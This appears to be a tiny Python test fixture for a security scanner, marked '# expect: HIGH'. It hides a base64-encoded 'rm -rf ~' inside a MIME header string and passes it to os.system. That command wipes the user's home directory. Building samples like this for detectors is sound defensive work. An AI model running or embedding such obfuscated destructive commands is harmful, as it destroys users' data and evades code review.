# expect: HIGH
import os
from email.header import decode_header
os.system(decode_header("=?utf-8?b?cm0gLXJmIH4=?=")[0][0])
